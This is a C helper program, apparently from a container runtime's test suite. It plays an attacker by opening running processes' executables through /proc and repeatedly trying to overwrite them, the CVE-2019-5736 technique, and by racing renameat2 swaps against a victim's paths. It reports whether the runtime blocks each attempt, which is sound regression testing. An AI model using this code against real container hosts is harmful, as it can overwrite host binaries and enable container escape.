/* An attacker's program for the tests: static, no libraries; runs until SIGTERM.
 *
 *   attacker exe WORD   in a container, PID namespace shared with the victims: takes hold of the executable of every
 *                       process with WORD in its name (so that a failing test ruins nothing but its own copies), and
 *                       writes into it as soon as the kernel lets it (CVE-2019-5736). Says `seen NAME`, `wrote NAME`;
 *                       at the end `refused NAME ERRNO`.
 *   attacker swap A B   on the host, in the place of a second container that shares the directory: exchanges the two
 *                       names as fast as it can (renameat2(2)); says `ready`, at the end how often. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define HELD_LIMIT 512

static volatile sig_atomic_t over;

static void on_signal(int number)
{
	(void)number;
	over = 1;
}

static struct held {
	int fd, error, pid;
	dev_t device;
	ino_t inode;
	char name[256];
	int written;
} held[HELD_LIMIT];
static int count;

static bool name_of(const char *path, char name[256])
{
	ssize_t length = readlink(path, name, 255);
	name[length > 0 ? length : 0] = '\0';
	return length > 0;
}

static void take_hold(const char *pid, const char *word)
{
	char path[64], name[256];
	struct stat st;
	snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
	if (!name_of(path, name) || !strstr(name, word) || count == HELD_LIMIT)
		return;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	/* Asked again: between the two it may have executed another program. */
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	if (!name_of(path, name) || !strstr(name, word) || fstat(fd, &st)) {
		close(fd);
		return;
	}
	for (int i = 0; i < count; i++)
		if (held[i].device == st.st_dev && held[i].inode == st.st_ino && held[i].pid == atoi(pid)) {
			close(fd);
			return;
		}
	held[count] = (struct held){ .fd = fd, .pid = atoi(pid), .device = st.st_dev, .inode = st.st_ino };
	memcpy(held[count].name, name, sizeof name);
	printf("seen %s\n", held[count++].name);
}

/* ETXTBSY while it runs; what protects it shows when it does not. */
static void overwrite(struct held *one)
{
	char path[64];
	if (one->written)
		return;
	snprintf(path, sizeof path, "/proc/self/fd/%d", one->fd);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		one->error = errno;
		return;
	}
	one->written = write(fd, "OVERWRITTEN", 11) == 11;
	if (one->written)
		printf("wrote %s\n", one->name);
	one->error = errno;
	close(fd);
}

static int attack_executables(const char *word)
{
	setvbuf(stdout, NULL, _IOLBF, 4096);
	puts("ready");
	while (!over) {
		DIR *proc = opendir("/proc");
		if (!proc)
			return 1;
		struct dirent *entry;
		while ((entry = readdir(proc)))
			if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid())
				take_hold(entry->d_name, word);
		closedir(proc);
		for (int i = 0; i < count; i++)
			overwrite(&held[i]);
	}
	for (int i = 0; i < count; i++)
		if (!held[i].written)
			printf("refused %s %s\n", held[i].name, strerrorname_np(held[i].error));
	return 0;
}

static int swap(const char *a, const char *b)
{
	long swaps = 0;
	while (!over) {
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)) {
			if (swaps && errno == ENOENT) /* the victim is about to put something else in its place */
				continue;
			return perror("renameat2"), 1;
		}
		if (swaps++ == 0) {
			puts("ready");
			fflush(stdout);
		}
	}
	printf("%ld\n", swaps);
	return 0;
}

int main(int argc, char **argv)
{
	struct sigaction action = { .sa_handler = on_signal };
	sigaction(SIGTERM, &action, NULL);
	if (argc == 3 && !strcmp(argv[1], "exe"))
		return attack_executables(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "swap"))
		return swap(argv[2], argv[3]);
	return 2;
}
